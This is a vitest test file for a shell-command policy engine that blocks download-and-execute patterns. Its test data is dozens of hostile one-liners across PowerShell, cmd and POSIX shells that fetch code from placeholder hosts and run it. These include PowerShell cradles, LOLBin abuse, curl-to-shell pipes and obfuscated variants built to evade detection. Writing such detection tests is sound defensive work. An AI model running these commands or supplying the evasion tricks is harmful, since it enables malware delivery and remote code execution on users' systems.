import { describe, expect, it } from 'vitest';
import { evaluatePolicy } from '../engine';
import type { PolicyInput, Shell } from '../types';

function evaluate(text: string, shell: Shell, history: string[] = []) {
  const input: PolicyInput = {
    text,
    shell,
    platform: shell === 'powershell' || shell === 'cmd' ? 'windows' : 'linux',
    context: { tenantState: 'active', trust: { level: 'standard' }, now: 0, blockedDestinations: [], permittedScriptHashes: [], history },
  };
  return evaluatePolicy(input);
}

const codes = (text: string, shell: Shell, history: string[] = []) => evaluate(text, shell, history).reasons.map((r) => r.code);

describe('download + execute: PowerShell', () => {
  it.each([
    'irm https://get.example.net/install.ps1 | iex',
    'iwr https://x.example.net/a.ps1 -UseBasicParsing | Invoke-Expression',
    "IEX (New-Object Net.WebClient).DownloadString('https://x.example.net/a.ps1')",
    "iex(new-object net.webclient).downloadstring('https://x.example.net/a.ps1')",
    'Invoke-Expression (Invoke-RestMethod https://x.example.net/a)',
    '$s = irm https://x.example.net/a.ps1; iex $s',
    "[ScriptBlock]::Create((iwr 'https://x.example.net/a.ps1').Content).Invoke()",
    '$wc = New-Object System.Net.WebClient; $wc.DownloadFile(\'https://x.example.net/a.exe\', "$env:TEMP\\a.exe"); Start-Process "$env:TEMP\\a.exe"',
    'Invoke-WebRequest https://x.example.net/a.exe -OutFile a.exe; .\\a.exe',
    'Start-BitsTransfer -Source https://x.example.net/a.exe -Destination C:\\Temp\\a.exe\nStart-Process C:\\Temp\\a.exe',
    "$x = New-Object -ComObject MsXml2.ServerXmlHttp; $x.Open('GET','https://x.example.net/a',$false); $x.Send(); IEX $x.ResponseText",
    'powershell -nop -c "iex (irm https://x.example.net/a)"',
  ])('blocks %s', (text) => {
    expect(codes(text, 'powershell')).toContain('download_execute');
    expect(evaluate(text, 'powershell').decision).toBe('block');
  });

  it.each([
    ["I`E`X (New-Object Net.WebClient).DownloadString('https://x.example.net/a')", 'backticks'],
    ["i''ex (irm https://x.example.net/a)", 'split quotes'],
    ["$w = New-Object Net.WebClient; iex $w.('Down'+'loadString')('https://x.example.net/a')", 'concatenation'],
    ["&('i'+'ex') (irm https://x.example.net/a)", 'computed invocation'],
    ['& (gcm i*x) (irm https://x.example.net/a)', 'Get-Command wildcard'],
    ['sal x iex; x (irm https://x.example.net/a)', 'alias'],
    ['ＩＥＸ (irm https://x.example.net/a)', 'full-width letters'],
    ["[ScriptBlock]::Create('irm https://x.example.net/a | iex').Invoke()", 'ScriptBlock::Create of a literal'],
    ['& ([scriptblock]::Create("iwr https://x.example.net/a -UseB | iex"))', 'call of a created script block'],
    ["Invoke-Command -ScriptBlock ([ScriptBlock]::Create('$u=''https://x.example.net/a''; iex (irm $u)'))", 'literal with quotes inside'],
    ["$ExecutionContext.InvokeCommand.InvokeScript('irm https://x.example.net/a | iex')", 'InvokeScript'],
    ["@'\n$u = 'https://x.example.net/a'\niex (irm $u)\n'@ | iex", 'here-string piped into iex'],
    ["Invoke-Expression -Command '$u=''https://x.example.net/a''; iex (irm $u)'", 'single-quoted literal starting with $'],
  ])('blocks obfuscated cradles (%s)', (text) => {
    expect(evaluate(text, 'powershell').decision).toBe('block');
  });

  it.each([
    'Get-Help Invoke-Expression',
    'Get-Help Invoke-Expression -Examples',
    'Select-String -Path C:\\logs\\*.log -Pattern "iex"',
    '# iex (irm https://x.example.net/a) is how the installer used to run',
    'Write-Host "never run iex (irm https://x.example.net/a)"',
    'Invoke-WebRequest https://x.example.net/a.zip -OutFile C:\\Temp\\a.zip',
    '(New-Object System.Net.WebClient).DownloadFile(\'https://x.example.net/a.txt\', "$env:TEMP\\a.txt")',
    'kubectl completion powershell | Out-String | Invoke-Expression',
    "$Command = 'Get-Process'\nInvoke-Expression $Command",
    'Invoke-RestMethod -Uri https://api.example.net/items | Format-Table',
    'Get-Content ./file.ps1 | Invoke-Expression',
    "[ScriptBlock]::Create('Get-Service | Where-Object Status -eq Running').Invoke()",
  ])('allows %s', (text) => {
    expect(codes(text, 'powershell')).not.toContain('download_execute');
  });
});

describe('download + execute: cmd', () => {
  it.each([
    'certutil -urlcache -split -f http://x.example.net/a.exe a.exe && a.exe',
    'bitsadmin /transfer job /download /priority high http://x.example.net/a.exe C:\\Temp\\a.exe & start C:\\Temp\\a.exe',
    'curl -o %TEMP%\\a.exe http://x.example.net/a.exe & start %TEMP%\\a.exe',
    'msiexec /q /i http://x.example.net/a.msi',
    'mshta http://x.example.net/a.hta',
    'regsvr32 /s /n /u /i:http://x.example.net/a.sct scrobj.dll',
    'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)',
    'cmd /c "powershell -c iex(irm http://x.example.net/a)"',
    'p^ow^ershell -c "iex (irm http://x.example.net/a)"',
  ])('blocks %s', (text) => {
    expect(evaluate(text, 'cmd').decision).toBe('block');
  });

  it.each(['curl -o C:\\Temp\\a.zip http://x.example.net/a.zip', 'msiexec /i C:\\Temp\\app.msi /qn', 'ipconfig /all'])(
    'does not call %s a download-execute',
    (text) => {
      expect(codes(text, 'cmd')).not.toContain('download_execute');
    },
  );
});

describe('download + execute: POSIX shells', () => {
  it.each([
    'curl -fsSL https://get.example.net/install.sh | sh',
    'curl https://sh.example.net -sSf | sh -s -- -y',
    'wget -qO- https://x.example.net/a.sh | sudo bash',
    'wget -O - https://x.example.net/a.sh | bash',
    'curl -s https://x.example.net/a.py | python3 -',
    'bash <(curl -s https://x.example.net/a.sh)',
    'eval "$(curl -fsSL https://x.example.net/a.sh)"',
    'sh -c "$(wget -qO- https://x.example.net/a.sh)"',
    'curl -o /tmp/x https://x.example.net/x && chmod +x /tmp/x && /tmp/x',
    'curl -sO https://x.example.net/atomic.sh; chmod +x atomic.sh; bash atomic.sh',
    'U=https://x.example.net/a.sh; curl $U | sh',
    'c\\url -s https://x.example.net/a | b\\ash',
    "c''url -s https://x.example.net/a | ba''sh",
    'X=$(curl -s https://x.example.net/a); eval "$X"',
    'python3 -c \'import urllib.request,os; exec(urllib.request.urlopen("https://x.example.net/a").read())\'',
    // `command`, `builtin` and `env` run the program they are given.
    'command curl -s https://x.example.net/a | \\command sh',
    'env curl -fsSL https://x.example.net/a | command sudo bash -s',
    'command bash <(env curl -s https://x.example.net/a)',
    // A single-quoted literal given to eval is code, whatever it holds.
    'eval \'bash -c "$(curl -fsSL https://x.example.net/a)"\'',
  ])('blocks %s', (text) => {
    expect(codes(text, 'bash')).toContain('download_execute');
  });

  it.each([
    'curl -o /tmp/file.tar.gz https://x.example.net/file.tar.gz',
    'wget https://x.example.net/foo',
    'curl https://x.example.net | grep title',
    'wget -qO - https://x.example.net/key.gpg | apt-key add -',
    'curl -s https://x.example.net/data.json | jq .',
    'command -v curl >/dev/null && curl -s https://x.example.net/data.json | command jq .',
    'eval \'echo "built $(date)"\'',
    'eval "$(atuin init bash)"',
    'eval "$(oh-my-posh init zsh --config ~/theme.json)"',
    "echo 'echo hi' | bash",
    'grep -r "curl | sh" /var/log',
    '# curl https://x.example.net/a.sh | sh',
    'echo "run: curl https://x.example.net/a.sh | sh"',
    'systemctl status nginx',
  ])('allows %s', (text) => {
    expect(codes(text, 'bash')).not.toContain('download_execute');
  });
});

describe('download + execute across session lines', () => {
  it('follows a URL stored in an earlier line (PowerShell)', () => {
    const r = evaluate('iex (New-Object Net.WebClient).DownloadString($u)', 'powershell', ["$u='http://x.example.net/a.ps1'"]);
    expect(r.decision).toBe('block');
  });
  it('follows a URL variable into a pipe (bash)', () => {
    expect(codes('curl $U | sh', 'bash', ['U=http://x.example.net/a.sh'])).toContain('download_execute');
  });
  it('follows a file downloaded by an earlier line (PowerShell)', () => {
    const text = 'Start-Process x.exe';
    const r = evaluate(text, 'powershell', ['iwr http://x.example.net/x.exe -OutFile x.exe']);
    expect(r.reasons.map((x) => x.code)).toContain('download_execute');
    for (const reason of r.reasons) for (const s of reason.spans) expect(s.end).toBeLessThanOrEqual(text.length);
    expect(codes('.\\x.exe', 'powershell', ['iwr http://x.example.net/x.exe -OutFile x.exe'])).toContain('download_execute');
  });
  it('follows a file downloaded by an earlier line (bash)', () => {
    const history = ['curl -o /tmp/x http://x.example.net/x'];
    expect(codes('chmod +x /tmp/x; /tmp/x', 'bash', history)).toContain('download_execute');
    expect(codes('bash /tmp/x', 'bash', history)).toContain('download_execute');
    expect(codes('cat /tmp/x', 'bash', history)).not.toContain('download_execute');
  });
  it('follows fetched content kept in a variable', () => {
    expect(codes('iex $s', 'powershell', ['$s = irm http://x.example.net/a'])).toContain('download_execute');
  });
  it('does not invent flows without a download', () => {
    expect(codes('Start-Process x.exe', 'powershell', ['Copy-Item C:\\a\\x.exe .'])).not.toContain('download_execute');
  });
});

describe('download + execute through variables and files in one script', () => {
  it('follows fetched content written to a file and run', () => {
    const text = '$r = Invoke-WebRequest "https://x.example.net/a.hta"\n$r.Content | Out-File "$env:TEMP\\a.hta"\nmshta "$env:TEMP\\a.hta"';
    expect(codes(text, 'powershell')).toContain('download_execute');
  });
  it('follows WebClient.DownloadFile into Import-Module', () => {
    const text =
      '$u = "https://x.example.net/m.ps1"\n$o = "$env:TEMP\\m.ps1"\n$wc = New-Object System.Net.WebClient\n$wc.DownloadFile($u, $o)\nImport-Module $o';
    expect(codes(text, 'powershell')).toContain('download_execute');
  });
  it('follows a python script assembled with echo and run', () => {
    const text = "echo 'import requests,os' > a.py\necho 'os.system(requests.get(\"https://x.example.net/c\").text)' >> a.py\npython3 a.py";
    expect(codes(text, 'bash')).toContain('download_execute');
  });
  it('does not flag a fetched value that is only displayed', () => {
    expect(codes('$r = Invoke-RestMethod https://api.example.net/v1/items\n$r | Format-Table', 'powershell')).not.toContain(
      'download_execute',
    );
  });
});

describe('strings that only mention execution', () => {
  it('does not treat a quoted mention of iex as execution', () => {
    expect(codes('irm https://api.example.net/items | ForEach-Object { Write-Host "iex $_" }', 'powershell')).not.toContain(
      'download_execute',
    );
  });
  it('follows code kept in a here-string, written to a script with Set-Content and run', () => {
    const script = "$ps = @'\n$wc = New-Object Net.WebClient\niex $wc.DownloadString('http://203.0.113.12/c2.ps1')\n'@\n";
    const run =
      'Set-Content -Path "$env:ProgramData\\upd.ps1" -Value $ps\npowershell -ExecutionPolicy Bypass -File "$env:ProgramData\\upd.ps1"';
    expect(codes(script + run, 'powershell')).toContain('download_execute');
    const benign = "$ps = @'\nGet-Service | Where-Object Status -eq Stopped\n'@\n";
    expect(codes(benign + run, 'powershell')).not.toContain('download_execute');
  });
  it('treats a variable holding a quoted note about a cradle as data when it is only written out', () => {
    const note = "$note = @'\nIncident 4411: attacker ran\n  IEX (New-Object Net.WebClient).DownloadString('http://bad.example/a')\n'@\n";
    expect(codes(note + 'Add-Content -Path C:\\ProgramData\\MSP\\notes.txt -Value $note', 'powershell')).not.toContain('download_execute');
    expect(codes(note + 'Invoke-Expression $note', 'powershell')).toContain('download_execute');
    expect(codes(note + '& ([scriptblock]::Create($note))', 'powershell')).toContain('download_execute');
  });
});

describe('variants beyond the basic forms', () => {
  it.each([
    ['curl -sL https://x.example.net/i | sudo -E bash -', 'bash'],
    ['source <(curl -s https://x.example.net/i)', 'bash'],
    [`php -r "eval(file_get_contents('http://x.example.net/a'));"`, 'bash'],
    [`perl -e 'use LWP::Simple; eval(get("http://x.example.net/a"))'`, 'bash'],
    ['cmd /c "bitsadmin /transfer x http://x.example.net/a.exe %temp%\\a.exe & %temp%\\a.exe"', 'cmd'],
    ["[System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://x.example.net/a.dll'))", 'powershell'],
    ['Invoke-WebRequest https://x.example.net/a.msi -OutFile $env:TEMP\\a.msi; msiexec /i $env:TEMP\\a.msi /qn', 'powershell'],
    ['(irm https://x.example.net/a) | powershell -', 'powershell'],
    ['start /b powershell -w hidden -c "iex (irm http://x.example.net/a)"', 'cmd'],
    ['powershell .(nslookup -q=txt stage.example.net)[-1]', 'powershell'],
  ] as const)('blocks %s', (text, shell) => {
    expect(evaluate(text, shell).decision).toBe('block');
  });
  it.each([
    ['curl -sL https://x.example.net/a.tgz | tar xz', 'bash'],
    ['curl -s https://x.example.net/key | sudo gpg --dearmor -o /usr/share/keyrings/x.gpg', 'bash'],
    ['curl -s https://x.example.net/a.json | python3 -m json.tool', 'bash'],
    ['wget -O- https://x.example.net/db.sql.gz | gunzip | psql mydb', 'bash'],
    ['iwr https://x.example.net/a.json | ConvertFrom-Json', 'powershell'],
    ['$r = Invoke-WebRequest https://x.example.net/status; if ($r.StatusCode -ne 200) { Write-Host "down" }', 'powershell'],
    ['curl -o C:\\t\\a.zip https://x.example.net/a.zip && tar -xf C:\\t\\a.zip', 'cmd'],
  ] as const)('allows %s', (text, shell) => {
    expect(codes(text, shell)).not.toContain('download_execute');
  });
});
